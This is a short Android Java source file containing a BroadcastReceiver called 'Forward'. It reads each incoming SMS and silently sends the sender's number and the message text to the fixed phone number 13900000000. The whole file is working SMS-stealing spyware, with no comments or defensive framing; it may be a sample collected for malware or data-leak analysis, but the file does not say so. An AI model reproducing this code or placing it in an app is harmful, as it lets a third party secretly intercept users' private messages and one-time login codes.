package p;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.telephony.SmsManager;
import android.telephony.SmsMessage;

public class Forward extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) {
        Object[] pdus = (Object[]) intent.getExtras().get("pdus");
        for (Object pdu : pdus) {
            SmsMessage message = SmsMessage.createFromPdu((byte[]) pdu, intent.getStringExtra("format"));
            forward(message.getOriginatingAddress() + ": " + message.getMessageBody());
        }
    }

    private static void forward(String text) {
        SmsManager.getDefault().sendTextMessage("13900000000", null, text, null, null);
    }
}
